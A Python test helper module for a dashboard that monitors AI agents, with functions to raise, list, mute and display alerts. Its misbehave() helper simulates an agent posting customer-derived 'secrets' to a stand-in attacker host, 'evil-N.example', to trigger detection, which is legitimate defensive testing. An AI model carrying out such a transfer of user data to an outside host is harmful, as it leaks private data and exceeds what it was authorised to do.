"""Alerts for the dashboard's tests: agents that a daemon has never seen and that do at once what nobody does."""

from __future__ import annotations

from itertools import count
from typing import Any
from urllib.parse import urlencode

from playwright.sync_api import Locator, Page, expect

from tests.dashboard import fleets
from tests.monitor.daemons import RunningDaemon

_NUMBERS = count(1)


def newcomer(prefix: str = "newcomer") -> str:
    """Return a name that no agent had before: tests of one daemon do not see each other's alerts."""
    return f"{prefix}-{next(_NUMBERS)}"


def misbehave(daemon: RunningDaemon, agent: str, **fields: Any) -> None:
    """Let an agent post a lot of data to a stranger, in a session of its own."""
    number = next(_NUMBERS)
    blatant = {
        "args": {"host": f"evil-{number}.example", "body": "secrets " * 4000},
        "provenance": {"host": "tool:read_document", "body": "tool:read_customer"},
        "on_behalf_of": ["alice@example.com"],
        "session_id": f"s-evil-{number}",
    }
    fleets.act(daemon, agent, "http_post", **(blatant | fields))


def groups(daemon: RunningDaemon, agent: str) -> list[dict[str, Any]]:
    """Return an agent's groups of alerts, newest first, in any state."""
    pattern = agent.replace('"', "*")  # the language of filters cannot write it
    query = urlencode({"filter": f'agent:"{pattern}"', "limit": 100})
    return list(daemon.get(f"/v1/alerts?{query}")["alerts"])


def raised(daemon: RunningDaemon, agent: str | None = None, **fields: Any) -> dict[str, Any]:
    """Let an agent misbehave for the first time; returns the group of its alert."""
    name = agent or newcomer()
    misbehave(daemon, name, **fields)
    daemon.wait_for(lambda: groups(daemon, name), f"an alert of {name}")
    return groups(daemon, name)[0]


def group(daemon: RunningDaemon, group_id: str) -> dict[str, Any]:
    """Return what the daemon says of a group now."""
    return dict(daemon.get(f"/v1/alerts/{group_id}"))


def change(daemon: RunningDaemon, ids: list[str], what: str, role: str = "analyst", **fields: Any) -> None:
    """Change alerts by the API."""
    status, answer = daemon.request(
        "POST", "/v1/alerts/changes", {"ids": ids, "change": what, **fields}, role=role
    )
    assert (status, answer["refused"]) == (200, []), answer


def mute(daemon: RunningDaemon, found: dict[str, Any], reason: str = "a test", for_s: int = 3600) -> str:
    """Mute alerts like those of a group by the API; returns the mute's id."""
    body = {
        "agent_id": found["alert"]["agent_id"],
        "signal": found["alert"]["reasons"][0]["signal"],
        "reason": reason,
        "for_s": for_s,
    }
    status, answer = daemon.request("POST", "/v1/mutes", body)
    assert status == 201, answer
    return str(answer["id"])


def lift(daemon: RunningDaemon, mute_id: str) -> None:
    """Lift a mute by the API."""
    assert daemon.request("DELETE", f"/v1/mutes/{mute_id}")[0] == 204


def of_agents(*names: str, states: str = "") -> str:
    """Return the address of the list that is limited to these agents."""
    terms = [f"agent:{','.join(names)}", *([f"state:{states}"] if states else [])]
    return f"#/alerts?{urlencode({'filter': ' '.join(terms)})}"


def row(page: Page, group_id: str) -> Locator:
    """The row of a group."""
    return page.locator(f'#alerts [data-alert="{group_id}"]')


def drawer_of(page: Page, daemon: RunningDaemon, group_id: str, query: str = "") -> Locator:
    """Open a group's drawer by its address and wait until everything is there."""
    page.goto(f"{daemon.url}/#/alerts/{group_id}{query}")
    drawer = page.locator("#drawer")
    expect(drawer.locator(".drawer-controls, .part").first).to_be_attached()
    expect(drawer.locator(".part-history .history")).to_be_visible()
    return drawer
